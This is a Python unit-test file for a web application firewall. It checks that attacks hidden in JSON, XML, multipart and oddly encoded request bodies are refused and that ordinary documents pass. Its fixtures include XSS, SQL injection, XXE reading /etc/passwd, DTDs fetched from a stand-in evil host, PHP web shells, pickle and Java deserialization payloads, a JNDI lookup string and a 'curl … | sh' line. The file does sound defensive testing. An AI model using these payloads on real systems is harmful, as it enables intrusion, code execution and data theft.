"""Bodies are read in their format: rules see the values that an application sees, and documents are no attacks."""

import base64
import json
import quopri
from urllib.parse import quote

import pytest

from gatewall.engine.waf.judge import Judge, builtin_rules
from gatewall.engine.waf.matcher import RuleSet
from gatewall.engine.waf.reading import MAX_BODY
from tests.unit.body_requests import BINARY, FORM, PARTS, SHORT, field, form_data, request

RULES = RuleSet(builtin_rules())
SCRIPT = "<script>alert(1)</script>"
STREAM = "application/octet-stream"
NOTE = "protocol-not-inspected"
JUDGE = Judge(None)


def found(body, kind="", **parts):
    return {rule.name for rule in RULES.inspect(request(body, kind, **parts), None)}


def refused(body, kind="", **parts):
    return bool(JUDGE.refusing(request(body, kind, **parts)))


QUOTED = quopri.encodestring(SCRIPT.encode(), quotetabs=True).decode().replace("<", "=3C").replace("a", "=61")
BYPASSES = {
    "the 65th string of a list": (json.dumps([SCRIPT, *["a b c d e f g"] * 3000]), "application/json"),
    "the last of 601 strings": (json.dumps([*["a b c d e f g"] * 600, SCRIPT]), "application/json"),
    "a repeated key": (f'{{"a": "{SCRIPT}", "a": "x"}}', "application/json"),
    "a field called filename": form_data((field("filename"), BINARY + SHORT)),
    "a parameter that ends in filename": form_data((field("a", "; xfilename=a"), BINARY + SHORT)),
    "a name that contains a parameter": form_data((field("a; filename=x"), BINARY + SHORT)),
    "a boundary in capitals": form_data((field("a"), SHORT), kind="multipart/form-data; Boundary=b"),
    "a parameter that ends in boundary": form_data(
        (field("a"), SHORT), kind="multipart/form-data; xboundary=c; boundary=b"
    ),
    "300 parts": form_data(*[(field(f"a{number}"), "x") for number in range(300)], (field("z"), SHORT)),
    "two media types": (f"a={quote(SCRIPT)}", f"{FORM},x"),
    "a part in quoted-printable": form_data((field("a") + "\r\nContent-Transfer-Encoding: quoted-printable", QUOTED)),
    "a part in base64": form_data(
        (field("a") + "\r\nContent-Transfer-Encoding: base64", base64.b64encode(SHORT.encode()).decode())
    ),
    "UTF-16 as a file": (
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'.encode("utf-16"),
        STREAM,
    ),
    "UTF-16 without a mark": (f'<?xml version="1.0"?><a>{quote("x")}; {SHORT}</a>'.encode("utf-16-le"), "text/xml"),
    "JSON in UTF-16": (json.dumps({"a": SCRIPT}).encode("utf-16-be"), "application/json"),
    "JSON in UTF-32": (json.dumps({"a": SCRIPT}).encode("utf-32-le"), "application/json"),
    "JSON in UTF-32 the other way": (json.dumps({"a": SCRIPT}).encode("utf-32-be"), "application/json"),
    "JSON with a mark": (b"\xef\xbb\xbf" + json.dumps({"a": SCRIPT}).encode(), "application/json"),
    "XML that is a form, too": (f"<x>&a={quote(SCRIPT)}</x>", FORM),
    "XML that is a form of names like entities": (f"<x y='&amp;a={SCRIPT}'>z</x>", FORM),
    "HTML as a form": (SCRIPT, FORM),
    "the name of a file": form_data((field("a", f'; filename="{SCRIPT}"'), "x")),
    "the name of a program": form_data((field("a", '; filename="a.php"'), "x")),
    "JSON as a form": (json.dumps({"a": SCRIPT}), FORM),
    "JSON that is a form, too": (f'{{"x":"&a={quote(SCRIPT)}&b="}}', FORM),
    "JSON with comments": (f'{{"a": 1, /* " */ "b": "{SCRIPT}"}}', "application/json"),
    "JSON in single quotes": (f"{{'a': '{SCRIPT}'}}", "application/json"),
    "JSON of many levels": ("[" * 5000 + f'"{SCRIPT}"' + "]" * 5000, "application/json"),
    "JSON with a large number": (f'[{"1" * 5000}, "{SCRIPT}"]', "application/json"),
    "JSON in a string of JSON": (json.dumps({"a": json.dumps([SCRIPT])}), "application/json"),
    "lines of JSON": (f'{{"a": 1}}\n{{"b": "{SCRIPT}"}}\n', "application/x-ndjson"),
    "JSON without a type": (json.dumps({"a": SCRIPT}), "text/plain"),
    "no JSON": (f'{{"a": <b>{SHORT}', "text/plain"),
    "an operator of a document database": ('{"user": {"$ne": null}}', "application/json"),
    "the name of a member": (json.dumps({SCRIPT: 1}), "application/json"),
    "an attribute of XML": ('<a b="x\' or 1=1--"/>', "application/xml"),
    "a text of XML": ("<a><b>x' or 1=1--</b></a>", "application/xml"),
    "CDATA": (f"<a><![CDATA[{SCRIPT}]]></a>", "application/soap+xml"),
    "a comment of XML": ("<a><!-- x' or 1=1-- --></a>".replace("-- --", "# --"), "text/xml"),
    "a processing instruction": ("<a><?php system($_GET[1]);?></a>", "text/xml"),
    "an entity": ('<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', "text/xml"),
    "an external document type": ('<!DOCTYPE a SYSTEM "http://evil.test/x.dtd"><a/>', "text/xml"),
    "a public document type": ('<!DOCTYPE a PUBLIC "x" "http://evil.test/x.dtd"><a/>', "text/xml"),
    "an inclusion": ('<a xmlns:xi="x"><xi:include href="file:///x"/></a>', "text/xml"),
    "a script element in XML": ("<a><script>x()</script></a>", "text/xml"),
    "an event handler in XML": ('<a><b onload="alert(1)"/></a>', "text/xml"),
    "XML that is not well-formed": (f"<a>{SHORT}", "text/xml"),
    "XML of many levels": ("<a>" * 300 + SHORT + "</a>" * 300, "text/xml"),
    "XML of many texts": ("<a>" + "<b>some words here</b>" * 400 + f"<b>{SHORT}</b></a>", "text/xml"),
    "HTML that is XML": ('<svg onload="alert(1)"/>', "text/plain"),
    "HTML that is XML in base64": (f"a={quote(base64.b64encode(SCRIPT.encode()))}", FORM),
    "XML without a type": (f"<a><b>{SHORT}</b></a>", ""),
    "markup that is called JSON": (f"<a>{SHORT}", "application/json"),
    "an entity without a type": ('<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', "text/plain"),
    "no boundary": (form_data((field("a"), SHORT))[0], "multipart/form-data"),
    "two boundaries": form_data((field("a"), SHORT), kind="multipart/form-data; boundary=c; boundary=b"),
    "a boundary in pieces": form_data((field("a"), SHORT), kind="multipart/form-data; boundary*0=b"),
    "an escaped boundary": form_data((field("a"), SHORT), kind='multipart/form-data; boundary="\\b"; x="a;\\"b"'),
    "lines that end in LF": (form_data((field("a"), SHORT))[0].replace(b"\r\n", b"\n"), PARTS),
    "a delimiter within a line": form_data((field("a"), "1' union --b select 2 from users")),
    "a longer delimiter": form_data((field("a"), "1' union \r\n--bc\r\n select 2")),
    "what is before the first part": (b"x" + SHORT.encode() + b"\r\n" + form_data()[0], PARTS),
    "what is behind the last part": (form_data()[0] + SHORT.encode(), PARTS),
    "a part without a head": (f"--b\r\n\r\n{SHORT}\r\n--b--".encode(), PARTS),
    "a part that is only a head": (f"--b\r\nX: {SHORT}".encode(), PARTS),
    "a head of many kilobytes": form_data((f"X: {'y' * 9000}\r\nY: {SHORT}", "")),
    "a folded header": form_data(('Content-Disposition: form-data;\r\n name="a"', SHORT)),
    "two file names": form_data((field("a", '; filename="x"; filename="y"'), BINARY + SHORT)),
    "a part in EBCDIC": form_data(
        (field("a") + "\r\nContent-Type: text/plain; charset=ibm037", SCRIPT.encode("cp037").decode("latin-1"))
    ),
    "a form in EBCDIC": (f"a={quote(SCRIPT.encode('cp037'))}", f"{FORM}; charset=ibm037"),
    "a text in UTF-7": ("+ADw-script+AD4-alert(1)", "text/plain; charset=utf-7"),
    "a form with raw plus signs": ("a=1'+or+1=1--", FORM),
    "base64 with raw plus signs": ("a=" + base64.b64encode(b"<script>~~>>??alert(1)").decode(), FORM),
    "dots in an overlong encoding": ("a=%c0%ae%c0%ae%c0%afetc", FORM),
    "a token": ("t=" + ".".join(base64.urlsafe_b64encode(each).decode().rstrip("=") for each in
                               (b'{"alg":"none"}', json.dumps({"sub": "x' or 1=1--"}).encode(), b"signature")), FORM),
    "a script in a text": (f"a\nb\n{SCRIPT}\n" + "c d e f\n" * 20, "text/plain"),
    "an event handler in markup": ('<p>some</p><img src="x" onerror="alert(1)">', "text/plain"),
    "a file of PHP": form_data((field("f", '; filename="a.txt"'), "<?php system($_GET['c']); ?>")),
    "PHP in an image": form_data((field("f", '; filename="a.png"'), BINARY + "<?php system($_GET['c']); ?>")),
    "a serialized object of Java": (b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(50), STREAM),
    "a serialized object of .NET": (b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01" + bytes(50), STREAM),
    "a serialized object of Python": (
        b"\x80\x04\x95\x1e" + bytes(7) + b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.", STREAM
    ),
    "no body of a known type": (SHORT, "application/foo"),
}  # fmt: skip


@pytest.mark.parametrize("name", BYPASSES)
def test_attack_in_a_body_is_refused(name):
    body, kind = BYPASSES[name]

    assert refused(body, kind)


def test_first_of_very_many_strings_is_seen_and_the_rest_is_noted():
    assert NOTE in found(json.dumps(["some words here"] * 5000), "application/json")
    assert NOTE not in found(json.dumps(["some words here"] * 50), "application/json")


MARKDOWN = """## Building

Run `make` or `make all`, see [the notes](../notes.md) and <https://cloud.example/docs>:

```sh
sudo apt install nginx && systemctl restart nginx
curl -fsSL http://localhost:8080/install.sh | sh
export TOKEN=$(cat /etc/app/token)
```

| Option | Default |
|---|---|
| `path` | /etc/nginx/nginx.conf |

* `select name from users where id = 1` reads the name.
* Michael's config.php was renamed; see `{{ page.title }}`.
"""
CODE = """package main

import "fmt"

func main() {
\tif x := os.Getenv("HOME"); x == "" || x == "/" {
\t\tfmt.Printf("%s\\n", x)
\t}
\trows, _ := db.Query("SELECT id FROM users WHERE name = 'a' AND id = 1")
}
"""
MARKUP = '<p style="text-align:left">Hello <a href="https://cloud.example">you</a><br/><img src="/a.png"></p>'
CALENDAR = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nLOCATION:Room 1\r\nX-A:b\r\nLINK:c\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
SOAP = (
    '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Body><Get xmlns="http://example.org/"><name>a b</name>'
    '<value xsi:type="string">7</value></Get></soap:Body></soap:Envelope>'
)
PROPFIND = (
    '<?xml version="1.0" encoding="UTF-8"?><d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><d:prop>'
    "<d:getetag/><oc:permissions/></d:prop></d:propfind>"
)
PLIST = (
    '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
    '"http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>a</key></dict></plist>'
)
SAML = (
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" Destination="https://cloud.example/acs">'
    '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://id.example</saml:Issuer></samlp:Response>'
)
HARMLESS = {
    "Markdown in JSON": (json.dumps({"body": MARKDOWN}), "application/json"),
    "Markdown in a form": (f"content={quote(MARKDOWN)}", FORM),
    "Markdown in a part": form_data((field("content"), MARKDOWN)),
    "a file of Markdown": (MARKDOWN, "text/markdown"),
    "source code in a form": (f"content={quote(CODE)}", FORM),
    "source code in a file": form_data((field("f", '; filename="main.go"'), CODE)),
    "source code in base64": (json.dumps({"content": base64.b64encode(CODE.encode()).decode()}), "application/json"),
    "HTML of an editor": (json.dumps({"html": MARKUP}), "application/json"),
    "SOAP": (SOAP, "text/xml; charset=utf-8"),
    "WebDAV": (PROPFIND, "application/xml"),
    "WebDAV without a type": (PROPFIND, ""),
    "WebDAV as curl sends it": (PROPFIND, FORM),
    "XML with an entity, as curl sends it": ("<x xmlns='DAV:'><name>Tom &amp; Ann's</name></x>", FORM),
    "a file with words of SQL in its name": form_data((field("a", '; filename="union select.pdf"'), "some words")),
    "a property list": (PLIST, "text/xml"),
    "a sign-in by SAML": (f"SAMLResponse={quote(base64.b64encode(SAML.encode()))}&RelayState=%2F", FORM),
    "a sign-in by SAML with raw plus signs": (
        f"SAMLResponse={base64.b64encode(SAML.encode()).decode()}&RelayState=%2F", FORM
    ),
    "packed bytes": (bytes(range(256)) * 20, "application/x-protobuf"),
    "packed bytes as text": (bytes(range(256)) * 20, "text/plain"),
    "packed bytes without a type": (bytes(range(256)) * 20, ""),
    "packed bytes as lines of JSON": (b"\x1f\x8b\x08\x00" + bytes(range(256)) * 3, "application/x-ndjson"),
    "packed bytes in JSON": (json.dumps({"a": bytes(range(256)).decode("latin-1")}), "application/json"),
    "headers in JSON": (json.dumps({"h": "content-length: 4\r\ncontent-type: text/html\r\n"}), "application/json"),
    "an upload over the limit": (b"\x89PNG\x00" + bytes(range(256)) * 300, "image/png"),
    "JSON over the limit": (json.dumps({"a": ["some words"] * 9000}), "application/json"),
    "JSON over the limit as text": (json.dumps([{"a": "some words"}] * 9000), "text/plain"),
    "JSON cut in a string": (json.dumps({"a": "some words <b>here</b> " * 9000}), "application/json"),
    "XML over the limit": ("<a>" + "<b>some words</b>" * 9000 + "</a>", "text/xml"),
    "a part in UTF-8": form_data((field("a") + "\r\nContent-Type: text/plain; charset=utf-8", "some words")),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_document_in_a_body_is_not_refused(name):
    body, kind = HARMLESS[name]

    assert found(body, kind) <= {NOTE, "sqli-function-call", "xss-element", "sqli-select-from"}
    assert not refused(body, kind)


WFS = (
    '<?xml version="1.0"?><wfs:GetFeature xmlns:wfs="http://www.opengis.net/wfs" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.opengis.net/wfs {}"/>'
)
SCHEMAS = (
    "../../../../etc/passwd", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "..\\..\\x",
    "x'or+1=1--", "${jndi:ldap://x.example/a}",
)  # fmt: skip


def test_place_of_a_schema_is_no_climbing_path_unless_it_leads_to_a_file_or_service():
    assert not found(WFS.format("../wfs/1.0.0/WFS-basic.xsd"), "text/xml")
    assert [each for each in SCHEMAS if not refused(WFS.format(each), "text/xml")] == []


def test_document_that_is_put_is_a_file():
    assert not refused(MARKDOWN, "text/plain", method="PUT")
    assert not refused(CODE, "", method="PUT")
    assert not refused(CALENDAR, "text/calendar", method="PUT")


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (b"a=" + b"x" * MAX_BODY, FORM),
        (json.dumps(["some words"] * 9000), "application/json"),
        (b"x", "text/plain; charset=klingon"),
        form_data((field("a") + "\r\nContent-Type: text/plain; charset=klingon", "x")),
        (b"a", f"{FORM}, application/json"),
        (b'--b\r\nContent-Disposition: form-data; name="a', "multipart/form-data; boundary=b"),
    ],
)
def test_bodies_that_are_not_read_in_their_format_are_noted(body, kind):
    assert NOTE in found(body, kind)


def test_form_over_the_limit_is_refused_and_so_is_an_unknown_packing():
    assert refused(b"a=" + b"x" * MAX_BODY, FORM)
    packed = request(b"\x01\x02", "application/json", headers=[(b"content-encoding", b"br")])
    assert "protocol-too-long" in {
        rule.name for rule in RULES.inspect(packed.__class__(**{**as_dict(packed), "body_is_whole": False}), None)
    }


def as_dict(value):
    return {name: getattr(value, name) for name in value.__dataclass_fields__}
